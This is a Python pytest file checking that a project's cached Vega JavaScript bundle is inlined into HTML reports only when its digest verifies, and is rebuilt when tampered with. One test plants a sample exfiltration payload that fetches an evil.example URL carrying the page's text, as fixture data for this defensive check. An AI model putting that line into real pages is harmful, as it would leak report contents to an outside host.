"""The cached Vega bundle is inlined into reports only when its digest checks out."""

from __future__ import annotations

import hashlib

import pytest
import vl_convert as vlc

from tierwise.report import html

BUILT = "/* the bundle vl-convert builds */"


@pytest.fixture
def cache(tmp_path, monkeypatch):
    """An empty cache folder and a counted stand-in for vl-convert's (slow) build."""
    monkeypatch.setenv("TIERWISE_CACHE_DIR", str(tmp_path))
    builds = []

    def build(vl_version=None):
        builds.append(vl_version)
        return BUILT

    monkeypatch.setattr(vlc, "javascript_bundle", build)
    html.vega_bundle.cache_clear()
    yield tmp_path, builds
    html.vega_bundle.cache_clear()


def _cached_file(folder):
    (path,) = folder.glob("vega-bundle-*.js")
    return path


def test_a_tampered_cache_file_is_rebuilt_not_inlined(cache):
    folder, builds = cache
    html.vega_bundle()
    path = _cached_file(folder)
    path.write_text("fetch('https://evil.example/?' + document.body.innerText)")
    html.vega_bundle.cache_clear()
    assert str(html.vega_bundle()) == BUILT
    assert path.read_text() == BUILT  # the cache is repaired
    assert len(builds) == 2


def test_a_tampered_file_of_a_listed_version_is_rebuilt_even_with_a_matching_sidecar(cache):
    from tierwise.report import vega_bundle as bundle

    _, builds = cache
    fake = "alert('not vega')"
    key = bundle._key()
    path = bundle.cache_path()
    path.write_text(fake)
    path.with_name(path.name + ".sha256").write_text(hashlib.sha256(fake.encode()).hexdigest())
    assert key in bundle.KNOWN_DIGESTS  # the locked vl-convert has its digest listed
    assert str(html.vega_bundle()) == BUILT
    assert builds


def test_a_cache_file_that_checks_out_is_used_without_building(cache, monkeypatch):
    from tierwise.report import vega_bundle as bundle

    _, builds = cache
    monkeypatch.setattr(vlc, "__version__", "0.0.test", raising=False)  # no listed digest
    html.vega_bundle()
    html.vega_bundle.cache_clear()
    assert str(html.vega_bundle()) == BUILT
    assert len(builds) == 1
    assert bundle.cache_path().name.startswith("vega-bundle-vlc0.0.test")


@pytest.mark.slow
def test_the_listed_digest_is_that_of_the_installed_vl_convert(monkeypatch):
    from tierwise.report import vega_bundle as bundle

    key = bundle._key()
    assert key in bundle.KNOWN_DIGESTS, (
        f"vl-convert {key[0]} (Vega-Lite {key[1]}) has no digest in KNOWN_DIGESTS; "
        "run `python -m tierwise.report.vega_bundle` and add the line it prints"
    )
    text = vlc.javascript_bundle(vl_version=bundle.vega_lite_version())
    assert bundle.digest(text) == bundle.KNOWN_DIGESTS[key]
